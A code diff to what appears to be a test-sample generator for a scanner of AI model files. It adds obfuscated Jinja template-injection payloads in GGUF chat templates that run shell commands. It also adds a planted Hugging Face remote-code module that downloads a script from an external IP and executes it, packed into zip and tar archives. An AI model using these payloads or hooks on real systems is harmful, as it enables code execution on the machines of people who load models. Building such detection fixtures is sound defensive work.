@@ -42,6 +42,7 @@ import json
 import os
 import shutil
 import struct
+import tarfile
 import tempfile
 import zipfile
 import zlib
@@ -308,8 +309,15 @@ def malicious(out, put):
     # obfuscated GGUF chat templates
     for t in ["{{ cycler['\\N{LOW LINE}\\N{LOW LINE}init\\N{LOW LINE}\\N{LOW LINE}']['__glo' ~ 'bals__'].os.popen('id').read() }}",
               "{% set a = '_' * 2 %}{{ (lipsum|attr(a ~ 'globals' ~ a))['os'].popen('id').read() }}",
-              "{{ ((joiner|attr('\\x5f\\x5finit\\x5f\\x5f'))|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].system('id') }}"]:
+              "{{ ((joiner|attr('\\x5f\\x5finit\\x5f\\x5f'))|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].system('id') }}",
+              # names built at render time by filters, methods and blocks
+              "{% set g %}__glo{{ 'bals' }}__{% endset %}{{ cycler|attr('%c%c%s%c%c'|format(95, 95, 'init', 95, 95))|attr(g) }}",
+              "{{ (lipsum|attr(dict(__globals__=1)|list|first))|attr('{}{}'.format('__get', 'item__'))('os') }}",
+              "{{ cycler|attr('__tini__'|reverse)|attr(['', 'globals', '']|join('__'))|attr('__snilitub__'[::-1]) }}"]:
         put("gguf_obfuscated_template", "gguf", gguf(t))
+    # a Hugging Face repo folder shared as an archive: the auto_map files are members
+    put("hf_auto_map_archive", None, None, writer=lambda d: repo_archive(d, "zip", hf_evil_files()))
+    put("hf_auto_map_archive", None, None, writer=lambda d: repo_archive(d, "tgz", hf_evil_files()))
     # Hugging Face remote code
     put("hf_auto_map", None, None, writer=lambda d: hf_repo(d, BENIGN_MODELING.replace(
         "import math\n", "import math\nimport os as _o\n").replace(
@@ -385,6 +393,45 @@ def benign(out, put):
         "module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
         "config": {"name": "lookup", "vocabulary": ["a", "b", "c"], "num_oov_indices": 1}}])), exact=True)
     put("hf_auto_map", None, None, writer=lambda d: hf_repo(d, BENIGN_MODELING))
+    put("hf_auto_map_archive", None, None, writer=lambda d: repo_archive(d, "zip", hf_files(BENIGN_MODELING)))
+    # chat templates of real models (crates/aisec-formats/tests/data/chat_templates)
+    tdir = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "crates", "aisec-formats",
+                        "tests", "data", "chat_templates")
+    for name in ["llama3_1_tools.jinja", "qwen2_5.jinja", "deepseek_r1.jinja"]:
+        with open(os.path.join(tdir, name)) as f:
+            put("gguf_template", "model.gguf", gguf(f.read()), exact=True)
+
+
+def hf_files(modeling: str, extra: dict | None = None) -> dict:
+    with tempfile.TemporaryDirectory() as t:
+        hf_repo(t, modeling, extra)
+        out = {}
+        for n in sorted(os.listdir(t)):
+            with open(os.path.join(t, n), "rb") as f:
+                out["tinyx/" + n] = f.read()
+        return out
+
+
+def hf_evil_files() -> dict:
+    return hf_files(BENIGN_MODELING.replace("from .configuration_tinyx",
+                                            "from .hub_utils import prefetch\nfrom .configuration_tinyx").replace(
+        "        super().__init__(config)\n", "        super().__init__(config)\n        prefetch()\n"),
+        {"hub_utils.py": "import os\nimport urllib.request\n\n\ndef prefetch():\n"
+                         "    urllib.request.urlretrieve('https://203.0.113.7/s.sh', '/tmp/s.sh')\n"
+                         "    os.system('sh /tmp/s.sh')\n"})
+
+
+def repo_archive(d, kind: str, files: dict):
+    if kind == "zip":
+        with zipfile.ZipFile(os.path.join(d, "tinyx.zip"), "w", zipfile.ZIP_DEFLATED) as z:
+            for n, b in files.items():
+                z.writestr(zipfile.ZipInfo(n, (2020, 1, 1, 0, 0, 0)), b)
+    else:
+        with tarfile.open(os.path.join(d, "tinyx.tar.gz"), "w:gz") as t:
+            for n, b in files.items():
+                ti = tarfile.TarInfo(n)
+                ti.size = len(b)
+                t.addfile(ti, io.BytesIO(b))
 
 
 def main():
